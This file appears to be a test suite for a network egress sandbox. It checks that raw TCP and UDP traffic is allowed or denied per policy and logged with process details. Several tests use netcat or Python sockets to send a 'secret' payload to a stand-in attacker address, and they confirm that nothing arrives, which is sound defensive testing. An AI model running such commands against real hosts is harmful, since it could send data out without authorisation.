/** Raw TCP, servers that speak first, UDP. */

import assert from "node:assert/strict";
import { none, one } from "../support/log.ts";
import { suite } from "../support/suite.ts";
import { introduced, who } from "../support/who.ts";

const test = suite();
const NC = "/usr/bin/nc.openbsd";

test("tcp: a server that speaks first gets through by its name", async (scene) => {
  const argv = ["nc", "-N", "ssh.test", "22"];
  const run = await scene.run({
    policy: "ssh.test:22",
    command: introduced(argv),
    stdin: "SSH-2.0-client\r\n",
  });
  const self = who(run.stdout);
  assert.equal(self.rest, "SSH-2.0-demo\r\nbye\r\n", run.stderr);
  const event = one(run.log, { type: "tcp" });
  assert.equal(event.policy, "allow");
  assert.equal(event.dst_ip, "198.51.100.22");
  assert.equal(event.dst_port, 22);
  assert.equal(event.exe, NC);
  assert.deepEqual(event.cmdline, argv);
  assert.equal(event.pid, self.pid);
  assert.equal(event.cgroup, self.cgroup);
  assert.equal(event.rule, "ssh.test:22");
  assert.equal(event.bytes_up, 16);
  assert.equal(event.bytes_down, 19);
  const got = (await scene.received()).filter((item) => item.kind === "tcp");
  assert.deepEqual(got.map((item) => item.data), ["SSH-2.0-client\r\n"]);
});

test("tcp: a client that waits for the server to speak gets its banner", async (scene) => {
  const script = "import socket; s = socket.create_connection(('ssh.test', 22)); print(s.recv(99))";
  const run = await scene.run({
    policy: "ssh.test:22",
    command: ["/usr/bin/python3", "-c", script],
  });
  assert.equal(run.stdout, "b'SSH-2.0-demo\\r\\n'\n", run.stderr);
});

test("tcp: a server that speaks first without a rule is never connected to", async (scene) => {
  const argv = ["nc", "-N", "-w", "5", "203.0.113.66", "22"];
  const run = await scene.run({ policy: "ssh.test:22", command: introduced(argv), stdin: "" });
  const self = who(run.stdout);
  assert.equal(self.rest, "");
  const event = one(run.log, { type: "tcp" });
  assert.equal(event.policy, "deny");
  assert.equal(event.reason, "no_rule");
  assert.equal(event.dst_ip, "203.0.113.66");
  assert.equal(event.dst_port, 22);
  assert.deepEqual(event.cmdline, argv);
  assert.equal(event.pid, self.pid);
  await scene.attackerGotNothing();
});

test("tcp: raw bytes to an allowed address arrive", async (scene) => {
  const run = await scene.run({
    policy: "198.51.100.80:9000",
    command: ["nc", "-N", "198.51.100.80", "9000"],
    stdin: "\x00\x01hello",
  });
  assert.equal(run.stdout, "taken\n", run.stderr);
  assert.equal(one(run.log, { type: "tcp" }).rule, "198.51.100.80:9000");
  const got = (await scene.received()).filter((item) => item.kind === "tcp");
  assert.equal(got.map((item) => item.data).join(""), "\x00\x01hello");
});

test("tcp: raw bytes to an address without a rule go nowhere", async (scene) => {
  const run = await scene.run({
    policy: "198.51.100.80:9000",
    command: ["nc", "-N", "-w", "5", "203.0.113.66", "9000"],
    stdin: "secret",
  });
  assert.equal(run.stdout, "", run.stderr);
  const event = one(run.log, { type: "tcp" });
  assert.equal(event.policy, "deny");
  assert.equal(event.dst_ip, "203.0.113.66");
  assert.equal(event.exe, NC);
  await scene.attackerGotNothing();
});

test("tcp: connections on the machine itself are no egress", async (scene) => {
  const script = "nc -l -N 127.0.0.1 7777 </dev/null & " +
    "until grep -q ':1E61 ' /proc/net/tcp; do :; done; echo hello | nc -N 127.0.0.1 7777; wait";
  const run = await scene.run({ policy: "site.test", command: ["sh", "-c", script] });
  assert.equal(run.stdout, "hello\n", run.stderr);
  none(run.log, { type: "tcp" });
});

for (const connected of [true, false]) {
  const kind = connected ? "connected" : "unconnected";
  const program = (address: string) =>
    `import socket, os; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n` +
    (connected
      ? `s.connect(('${address}', 9000)); s.send(b'ping')\n`
      : `s.sendto(b'ping', ('${address}', 9000))\n`) +
    `try: print(s.recv(99))\n` +
    `except OSError as e: print(type(e).__name__)\n`;

  test(`udp: datagrams of ${kind} sockets go to an allowed address and back`, async (scene) => {
    const argv = ["/usr/bin/python3", "-c", program("198.51.100.80")];
    const run = await scene.run({ policy: "198.51.100.80:9000/udp", command: introduced(argv) });
    const self = who(run.stdout);
    assert.equal(self.rest, "b'ping'\n", run.stderr);
    const event = one(run.log, { type: "udp" });
    assert.equal(event.policy, "allow");
    assert.equal(event.dst_ip, "198.51.100.80");
    assert.equal(event.dst_port, 9000);
    assert.equal(event.exe, await Deno.realPath("/usr/bin/python3"));
    assert.deepEqual(event.cmdline, argv);
    assert.equal(event.pid, self.pid);
    assert.equal(event.cgroup, self.cgroup);
    assert.equal(event.rule, "198.51.100.80:9000/udp");
    const got = (await scene.received()).filter((item) => item.kind === "udp");
    assert.deepEqual(got.map((item) => item.data), ["ping"]);
  });

  test(`udp: datagrams of ${kind} sockets without a rule go nowhere`, async (scene) => {
    const argv = ["/usr/bin/python3", "-c", program("203.0.113.66")];
    const run = await scene.run({ policy: "198.51.100.80:9000/udp", command: introduced(argv) });
    const self = who(run.stdout);
    // Only a connected socket is told of the rejection.
    assert.equal(self.rest, connected ? "ConnectionRefusedError\n" : "TimeoutError\n");
    const event = one(run.log, { type: "udp" });
    assert.equal(event.policy, "deny");
    assert.equal(event.reason, "no_rule");
    assert.equal(event.dst_ip, "203.0.113.66");
    assert.equal(event.pid, self.pid);
    assert.deepEqual(event.cmdline, argv);
    assert.match(event.hint ?? "", /^203\.0\.113\.66:9000\/udp/);
    await scene.attackerGotNothing();
  });
}

test("udp: a tcp rule for the address and port allows no udp", async (scene) => {
  const run = await scene.run({
    policy: "203.0.113.66:9000",
    command: ["nc", "-u", "-w", "1", "203.0.113.66", "9000"],
    stdin: "secret",
  });
  assert.equal(one(run.log, { type: "udp" }).policy, "deny");
  await scene.attackerGotNothing();
});
